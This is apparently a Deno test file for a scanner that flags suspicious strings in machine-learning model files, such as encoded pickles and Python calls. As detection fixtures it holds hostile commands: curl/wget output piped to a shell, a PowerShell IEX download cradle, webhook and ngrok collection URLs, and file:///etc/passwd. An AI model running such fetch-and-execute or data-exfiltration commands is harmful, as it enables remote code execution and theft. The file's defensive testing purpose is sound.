// The shared string checks on strings models really carry (licences, training notes, links to the
// hubs, data-URI thumbnails) and on their malicious twins: each indicator found once with its kind,
// an encoded pickle decoded and handed over for scanning, Python source reported with its calls.
import assert from "node:assert/strict";
import type { ByteSource } from "../../../core/byte_source.ts";
import type { FindingReport } from "../../../core/scanner.ts";
import { checkString, suspiciousIndicators } from "../../../scanners/strings/checks.ts";
import { OS_SYSTEM } from "../compressed/_scan.ts";

const kinds = (text: string) => suspiciousIndicators(text).map((indicator) => indicator.kind);

Deno.test("string checks: benign model metadata stays clean", () => {
  for (
    const text of [
      "pt",
      "Fine-tuned from https://huggingface.co/meta-llama/Llama-2-7b-hf on https://github.com/tatsu-lab/stanford_alpaca",
      "Permission is hereby granted, free of charge, to any person obtaining a copy of this software",
      "Install with `pip install transformers` and run `python -m train --lr 1e-4 | tee log.txt`",
      "version 1.2.3.4 of the tokenizer; served locally at http://127.0.0.1:7860 and http://0.0.0.0:8080/",
      "we shorten t.co links in prose, and bit.ly is mentioned without a path",
      "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
      "curl is a tool; sh is a shell",
    ]
  ) assert.deepEqual(kinds(text), [], text);
});

Deno.test("string checks: each indicator of a second stage, once per kind", () => {
  assert.deepEqual(kinds("curl -fsSL https://example.com/install.sh | sudo -E bash"), ["shell-pipe"]);
  assert.deepEqual(kinds("wget -qO- https://example.com/x.py | python3"), ["shell-pipe"]);
  assert.deepEqual(kinds('sh -c "$(curl -fsSL https://example.com/x)"'), ["shell-pipe"]);
  assert.deepEqual(kinds("bash <(curl -s https://example.com/x)"), ["shell-pipe"]);
  assert.deepEqual(
    kinds("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://example.com')\""),
    [
      "shell-pipe",
    ],
  );
  assert.deepEqual(kinds("see http://198.51.100.23:8000/a and http://10.0.0.1/b"), ["raw-ip-url"]);
  assert.deepEqual(kinds("mirror at https://[2001:db8::7]/weights"), ["raw-ip-url"]);
  assert.deepEqual(kinds("config from pastebin.com/raw/Ab12Cd34"), ["paste-site"]);
  assert.deepEqual(kinds("https://bit.ly/3xYz"), ["url-shortener"]);
  assert.deepEqual(kinds("POST to https://a1b2.ngrok-free.app/collect or https://webhook.site/uuid"), [
    "tunnel",
  ]);
  assert.deepEqual(kinds("weights at file:///etc/passwd"), ["file-url"]);
  assert.deepEqual(suspiciousIndicators("x ".repeat(5) + "file:///a"), [{
    kind: "file-url",
    excerpt: "file:///a",
    index: 10,
  }]);
});

Deno.test("string checks: an encoded pickle is reported (MA012) and handed over to be scanned", async () => {
  const found: FindingReport[] = [];
  const nested: [number, string][] = [];
  const ctx = {
    report: (f: FindingReport) => found.push(f),
    matchBlacklist: () => undefined,
    scanNested: (source: ByteSource, label: string) => {
      nested.push([source.size, label]);
      return Promise.resolve();
    },
  };
  await checkString(ctx, btoa(String.fromCharCode(...OS_SYSTEM)), {
    what: "The value",
    position: 12,
    keyPath: "$.a",
  });
  assert.deepEqual(found.map((f) => [f.rule, f.position, f.keyPath, f.details]), [
    ["MA012", 12, "$.a", { payload: "pickle", encoding: "base64" }],
  ]);
  assert.deepEqual(nested, [[OS_SYSTEM.length, "<base64@12>"]]);

  found.length = 0;
  await checkString(ctx, "import subprocess; subprocess.run(['id'])", { what: "The value" });
  assert.deepEqual(found.map((f) => [f.rule, f.details]), [
    ["MA012", { payload: "code", encoding: "plain", calls: ["subprocess.run"] }],
  ]);
  found.length = 0;
  await checkString(ctx, "model.eval() then eval_metric = 0.9", { what: "The value" });
  assert.deepEqual(found, []);
});

Deno.test("string checks: a caller that judges URLs itself leaves those indicators out", async () => {
  const found: FindingReport[] = [];
  const ctx = {
    report: (f: FindingReport) => found.push(f),
    matchBlacklist: () => undefined,
    scanNested: () => Promise.resolve(),
  };
  const text = "curl -s https://pastebin.com/raw/abc | sh; see file:///etc/passwd";
  await checkString(ctx, text, { what: "The value", skipIndicators: ["paste-site", "file-url"] });
  assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe"]);
  found.length = 0;
  await checkString(ctx, text, { what: "The value" });
  assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe", "paste-site", "file-url"]);
});
